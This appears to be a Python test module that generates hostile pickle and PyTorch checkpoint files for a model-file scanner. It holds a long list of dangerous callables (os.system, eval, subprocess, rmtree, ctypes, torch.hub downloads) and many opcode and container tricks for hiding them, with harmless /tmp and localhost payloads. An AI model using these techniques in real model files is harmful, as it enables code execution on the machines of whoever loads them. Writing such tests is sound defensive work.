"""Pickles that call what they should not: what is called, with which instructions, and where in a file."""

import io
import pickletools
import tarfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from functools import cache, partial
from itertools import pairwise

from tests.hostile.building import Case, holding_place, mlp, real_file, remade, repickled, saved, torch_file
from tests.hostile.opcodes import call, get, listed, mapping, named, put, sequence, tensor, text, whole

COMMAND = "touch /tmp/fashion-core-was-here"
_CODE = f"__import__('os').system('{COMMAND}')"
_SCRIPT = "/tmp/fashion-core-script.py"
_URL = "http://127.0.0.1:9/fashion-core"

_CALLED: Mapping[tuple[str, ...], str] = {
    (_CODE,): """
        builtins:eval builtins:exec __builtin__:eval runpy:_run_code timeit:timeit timeit:main profile:run
        cProfile:run pdb:run bdb:Bdb.run doctest:debug_script trace:Trace.run types:FunctionType
        types:CodeType marshal:loads pickle:loads _pickle:loads pickle:Unpickler dill:loads
        cloudpickle.cloudpickle:_make_function pandas:eval numpy.testing._private.utils:runstring
        numpy.f2py.crackfortran:myeval torch.fx.graph_module:_forward_from_src
        torch._inductor.codecache:PyCodeCache torch._dynamo.guards:GuardBuilder.get
    """,
    (_SCRIPT,): """
        os:remove __builtin__:execfile zipimport:zipimporter runpy:run_path shelve:open codecs:open
        logging.config:fileConfig sqlite3:connect joblib:load pandas:read_pickle numpy:load numpy:loadtxt
        numpy:memmap torch:load torch.serialization:load torch.jit:load torch.package:PackageImporter
        torch.ops:load_library torch.classes:load_library fashion_core.formats.load:load
        streamlit.web.bootstrap:run
    """,
    ("x",): """
        builtins:type copyreg:_reconstructor functools:reduce sys:settrace numpy.core.multiarray:_reconstruct
        torch.storage:_load_from_bytes torch.utils.cpp_extension:load_inline
        torch.fx.graph_module:reduce_graph_module torch.distributed.rpc:rpc_sync
        torch.multiprocessing.spawn:spawn torch.nn.modules.module:register_module_forward_hook
        torch.nn.utils.parametrize:type_before_parametrizations torch.utils._config_module:load_config
        torch.nn:Module.load_state_dict torch:set_default_device fashion_core.runs.queue:stop
        __main__:NeuralNetwork.forward
    """,
    (COMMAND,): """
        os:system posix:system nt:system os:popen subprocess:Popen subprocess:call subprocess:check_output
        subprocess:getoutput commands:getoutput platform:popen pty:spawn functools:partial
        asyncio:create_subprocess_shell multiprocessing.util:spawnv_passfds atexit:register
        torch.utils.collect_env:run
    """,
    (): """
        builtins:breakpoint builtins:globals code:InteractiveInterpreter socket:socket threading:Thread
        tempfile:mkdtemp torch.cuda:init
    """,
    (_URL,): """
        webbrowser:open urllib.request:urlopen requests:get torch.hub:load_state_dict_from_url
        torch.utils.model_zoo:load_url torchvision.datasets.utils:download_url
    """,
    ("127.0.0.1",): "http.client:HTTPSConnection socket:create_connection ftplib:FTP smtplib:SMTP",
    ("os",): "builtins:__import__ importlib:import_module importlib._bootstrap:_load_unlocked",
    ("os", "system"): "builtins:getattr copyreg:add_extension",
    ("x", _SCRIPT): "importlib.machinery:SourceFileLoader imp:load_source",
    ("system",): "operator:attrgetter operator:itemgetter",
    (_SCRIPT, "x"): "pathlib:Path.write_text distutils.file_util:write_file",
    ("f8",): "numpy.core.multiarray:scalar numpy._core.multiarray:scalar",
    ("/bin/sh", "sh", "-c", COMMAND): "os:execl",
    ("LD_PRELOAD", _SCRIPT): "os:putenv",
    (_CODE, "name", "exec"): "builtins:compile",
    ("os", "system", "x"): "builtins:setattr",
    (_SCRIPT, "w"): "builtins:open",
    ("system", COMMAND): "operator:methodcaller",
    (_CODE, "rot13"): "codecs:decode",
    (_CODE, "latin1"): "_codecs:encode",
    ("9",): "signal:raise_signal",
    ("1",): "sys:exit",
    ("libc.so.6",): "ctypes:CDLL",
    ("c",): "ctypes.util:find_library",
    ("/tmp/fashion-core",): "shutil:rmtree",
    (_SCRIPT, "/tmp/x"): "shutil:move",
    ("x", COMMAND): "pydoc:pipepager",
    ("install x",): "pip:main",
    ("/tmp/x",): "venv:create",
    ("a/b", "c"): "torch.hub:load",
    (_URL, _SCRIPT): "torch.hub:download_url_to_file",
    ("def f(): pass",): "torch.jit._script:CompilationUnit",
}
"""What would be called, as module and name, by the texts that it would be called with."""


@dataclass(frozen=True)
class Gadget:
    """A call in a pickle: of what, and with which texts."""

    texts: tuple[str, ...]
    module: str
    name: str

    @property
    def named(self) -> bytes:
        return named(self.module, self.name)

    @property
    def items(self) -> bytes:
        return b"".join(map(text, self.texts))

    @property
    def arguments(self) -> bytes:
        return sequence(self.items)

    @property
    def called(self) -> bytes:
        return self.named + self.arguments + b"R"


GADGETS = [Gadget(texts, *called.split(":")) for texts, names in _CALLED.items() for called in names.split()]
SYSTEM = Gadget((COMMAND,), "os", "system")


def _short_text(value: str) -> bytes:
    return b"\x8c" + bytes([len(value)]) + value.encode()


def _line(value: str) -> bytes:
    return b"V" + value.encode("raw-unicode-escape") + b"\n"


_LINEAR = named("torch.nn.modules.linear", "Linear")
_ORDERED = named("collections", "OrderedDict")
_DEFAULT = named("collections", "defaultdict")
STYLES: Mapping[str, Callable[[Gadget], bytes]] = {
    "GLOBAL": lambda gadget: gadget.called,
    "STACK_GLOBAL": lambda gadget: text(gadget.module) + text(gadget.name) + b"\x93" + gadget.arguments + b"R",
    "SHORT_BINUNICODE": lambda gadget: (
        _short_text(gadget.module) + _short_text(gadget.name) + b"\x93" + gadget.arguments + b"R"
    ),
    "UNICODE": lambda gadget: gadget.named + b"(" + b"".join(map(_line, gadget.texts)) + b"tR",
    "INST": lambda gadget: b"(" + gadget.items + f"i{gadget.module}\n{gadget.name}\n".encode(),
    "OBJ": lambda gadget: b"(" + gadget.named + gadget.items + b"o",
    "NEWOBJ": lambda gadget: gadget.named + gadget.arguments + b"\x81",
    "NEWOBJ_EX": lambda gadget: gadget.named + gadget.arguments + b"}\x92",
    "BUILD": lambda gadget: (  # a state whose ``__setstate__`` is the function
        _LINEAR + b")\x81" + mapping({"__setstate__": gadget.named}) + b"b" + listed(gadget.items) + b"b"
    ),
    "memo": lambda gadget: listed(  # the two texts are kept first and put together later
        text(gadget.name) + put(901) + text(gadget.module) + put(902) + b"\x86" + put(903),
        get(902) + get(901) + b"\x93" + gadget.arguments + b"R",
    ),
    "memo of protocol 0": lambda gadget: listed(gadget.named + b"p77\n", b"g77\n" + gadget.arguments + b"R"),
    "EXT1": lambda gadget: b"\x82\x07" + gadget.arguments + b"R",
    "EXT2": lambda gadget: b"\x83\x07\x00" + gadget.arguments + b"R",
    "EXT4": lambda gadget: b"\x84\x07\x00\x00\x00" + gadget.arguments + b"R",
    "POP": lambda gadget: gadget.called + b"0" + text("harmless"),
    "POP_MARK": lambda gadget: b"(" + gadget.called + b"1" + text("harmless"),
    "DUP": lambda gadget: gadget.named + b"2" + gadget.arguments + b"R\x86",
    "an argument": lambda gadget: call(_ORDERED, listed(b"]" + gadget.called + b"a")),
    "a factory": lambda gadget: call(_DEFAULT, gadget.named),
    "a factory called": lambda gadget: call(_DEFAULT, gadget.called),
    "a key": lambda gadget: b"}" + gadget.called + b"Ns",
    "a value alone": lambda gadget: gadget.named,
    "metadata": lambda gadget: call(_ORDERED) + mapping({"_metadata": gadget.called}) + b"b",
    "a persistent id": lambda gadget: sequence(text("storage"), gadget.called, text("5"), text("cpu"), b"K\x0a") + b"Q",
    "a persistent module": lambda gadget: (  # the form in which torch kept the source of a class before 1.6
        sequence(text("module"), gadget.named, text("x.py"), text("")) + b"Q" + gadget.arguments + b"R"
    ),
    "a hook of a tensor": lambda gadget: call(
        named("torch._utils", "_rebuild_parameter"), tensor(), b"\x88", mapping({"0": gadget.named})
    ),
}
"""How a call is written in a pickle."""
_KINDS = ("checkpoint", "weights", "model", "forward", "legacy")


def everything_that_can_be_called() -> Iterator[Case]:
    """Each gadget once, in turn in each kind of file and as each sort of call."""
    styles = ("GLOBAL", "STACK_GLOBAL", "NEWOBJ", "memo", "an argument")
    for index, gadget in enumerate(GADGETS):
        style, kind = styles[index % len(styles)], _KINDS[index // 2 % len(_KINDS)]
        yield f"{gadget.module}.{gadget.name} by {style} in {kind}", partial(_real, kind, style, gadget)


def _real(kind: str, style: str, gadget: Gadget) -> bytes:
    return real_file(kind, STYLES[style](gadget))


def every_way_to_call() -> Iterator[Case]:
    """``os.system`` by each sort of instruction, in a real checkpoint and in a whole model."""
    for style in STYLES:
        for kind in ("checkpoint", "model"):
            yield f"os.system by {style} in {kind}", partial(_real, kind, style, SYSTEM)


def in_every_container() -> Iterator[Case]:
    """``os.system`` in files that hold nothing else, and where nobody looks."""
    gadget = SYSTEM.called
    yield "bare pickle of protocol 0", lambda: gadget + b"."
    yield "bare pickle of protocol 1", lambda: b"\x80\x01" + gadget + b"."
    for protocol in (2, 4, 5):
        yield f"bare pickle of protocol {protocol}", partial(whole, gadget, protocol)
    yield "bare pickle with a text of Python 2", lambda: b"cos\nsystem\n(S'x'\ntR."
    yield "alone in a zip", lambda: torch_file(whole(gadget), {})
    yield "alone in a zip of protocol 4", lambda: torch_file(whole(gadget, 4), {})
    yield "left on the stack before the weights", lambda: _in_pickle(lambda pickle: pickle[:2] + gadget + pickle[2:])
    yield "left under a mark before the weights", lambda: _in_pickle(lambda old: old[:2] + gadget + b"(" + old[2:])
    yield "numbers left under a mark", lambda: _in_pickle(lambda pickle: pickle[:2] + b"K\x01(" + pickle[2:])
    yield "numbers left on the stack", lambda: _in_pickle(lambda pickle: pickle[:2] + b"K\x01" + pickle[2:])
    yield "second pickle after the STOP", lambda: _in_pickle(lambda pickle: pickle + whole(gadget))
    yield "second pickle before the weights", lambda: _in_pickle(lambda pickle: whole(gadget) + pickle)
    yield "compressed pickle", lambda: _in_pickle(zlib.compress)
    yield "tar of torch 0.1", _tar
    for name in ("extra.pkl", "data/evil.pkl", "constants.pkl", "code/__torch__.py", "data.pkl.bak", ".data/x.pkl"):
        yield f"pickle under the name {name}", partial(_beside, {f"archive/{name}": whole(gadget)})
    yield "pickle where numbers belong", partial(_beside, {"archive/data/0": whole(gadget)})
    for place in range(5):
        yield f"in pickle {place + 1} of torch before 1.6", partial(_legacy, place, gadget)


def _in_pickle(change: Callable[[bytes], bytes]) -> bytes:
    return repickled(holding_place("checkpoint"), change)


def _beside(changed: Mapping[str, bytes]) -> bytes:
    return remade(holding_place("checkpoint"), changed)


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = whole(SYSTEM.called)
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            file.addfile(entry, io.BytesIO(data))
    return buffer.getvalue()


@cache
def legacy_parts() -> list[bytes]:
    """Real weights as torch before 1.6 wrote them: five pickles, and the numbers."""
    data = saved(mlp().state_dict(), _use_new_zipfile_serialization=False)
    stream, ends = io.BytesIO(data), [0]
    for _ in range(5):
        list(pickletools.genops(stream))
        ends.append(stream.tell())
    return [data[start:end] for start, end in pairwise([*ends, len(data)])]


def legacy_file(changed: Mapping[int, bytes]) -> bytes:
    return b"".join(changed.get(place, part) for place, part in enumerate(legacy_parts()))


def _legacy(place: int, gadget: bytes) -> bytes:
    pickle = legacy_parts()[place]
    return legacy_file({place: pickle[:2] + gadget + (b"0" if place % 2 else b"") + pickle[2:]})


FAMILIES = (everything_that_can_be_called, every_way_to_call, in_every_container)
